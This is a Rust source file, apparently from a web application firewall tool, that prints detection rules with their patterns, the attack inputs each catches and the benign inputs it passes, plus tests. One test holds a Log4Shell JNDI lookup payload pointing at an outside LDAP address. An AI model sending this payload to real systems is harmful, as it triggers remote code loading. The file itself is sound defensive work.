//! The detection rules for people: what each looks for, with its proofs.

use std::fmt::Write as _;

use waf_detection::rule::{Rule, RuleMatcher, STRONG};
use waf_detection::rules;
use waf_shared::catalog::{ALIASES, Default, resolve};

use crate::catalog;
use crate::diagnostic::escaped;

/// Every rule of a leaf, bucket or family, or all of them; the error says that there is no such name, or no such rule.
pub fn listing(name: Option<&str>) -> Result<String, String> {
    let Some(name) = name else { return Ok(describe(&rules::all().collect::<Vec<_>>())) };
    let canonical = ALIASES.iter().find(|(old, _)| *old == name).map_or(name, |(_, name)| *name);
    let Some((_, leaves)) = resolve(canonical) else {
        return Err(catalog::unknown(name));
    };
    let found: Vec<_> = rules::all().filter(|rule| leaves.contains(rule.leaf)).collect();
    if found.is_empty() {
        return Err(format!("{canonical} is checked without rules: see `waf-compile catalog {canonical}`"));
    }
    Ok(describe(&found))
}

fn describe(rules: &[&Rule]) -> String {
    let mut out = String::new();
    for rule in rules {
        let weight = if rule.weight >= STRONG {
            "blocks alone".to_owned()
        } else {
            format!("weight {} of {STRONG}", rule.weight)
        };
        let state = match rule.leaf.row().default {
            Default::On => "on",
            Default::Off => "off",
        };
        let _ = writeln!(out, "{} ({weight}, {state} by default)\n  {}", rule.id, rule.summary);
        if let RuleMatcher::Pattern { regex, .. } = rule.matcher {
            let _ = writeln!(out, "  pattern   {}", escaped(regex));
        }
        for (what, proofs) in [("catches", rule.attacks), ("passes", rule.benign)] {
            for proof in proofs {
                let _ = writeln!(out, "  {what:8}  {}", escaped(proof));
            }
        }
        out.push('\n');
    }
    let _ = writeln!(out, "{} rules", rules.len());
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn rules_are_listed_with_their_proofs() {
        let all = listing(None).expect("all rules");
        for rule in rules::all() {
            assert!(all.contains(&format!("{} (", rule.id)), "{}", rule.id);
        }
        let leaf = listing(Some("java-injection-log4shell")).expect("a leaf with rules");
        assert!(
            leaf.starts_with("java-injection-log4shell/naming-lookup (blocks alone, on by default)\n"),
            "{leaf}"
        );
        assert!(
            leaf.contains("\n  catches   ${jndi:ldap://203.0.113.5/a}\n")
                && leaf.contains("\n  passes    ${user.name}\n")
        );
        assert!(!leaf.contains("sql-injection"));
        let bucket = listing(Some("sql-injection")).expect("a bucket");
        assert!(bucket.lines().filter(|line| line.starts_with("sql-injection-")).count() > 20);
        let unknown = listing(Some("sql-injectoin")).expect_err("unknown");
        assert!(unknown.contains("did you mean `sql-injection`?"), "{unknown}");
        let none = listing(Some("response-headers-add-csp")).expect_err("no rules");
        assert!(none.contains("checked without rules"), "{none}");
    }

    #[test]
    fn nothing_that_is_listed_reaches_a_terminal_as_a_control() {
        assert!(listing(None).expect("all rules").chars().all(|c| c == '\n' || !c.is_control()));
    }
}
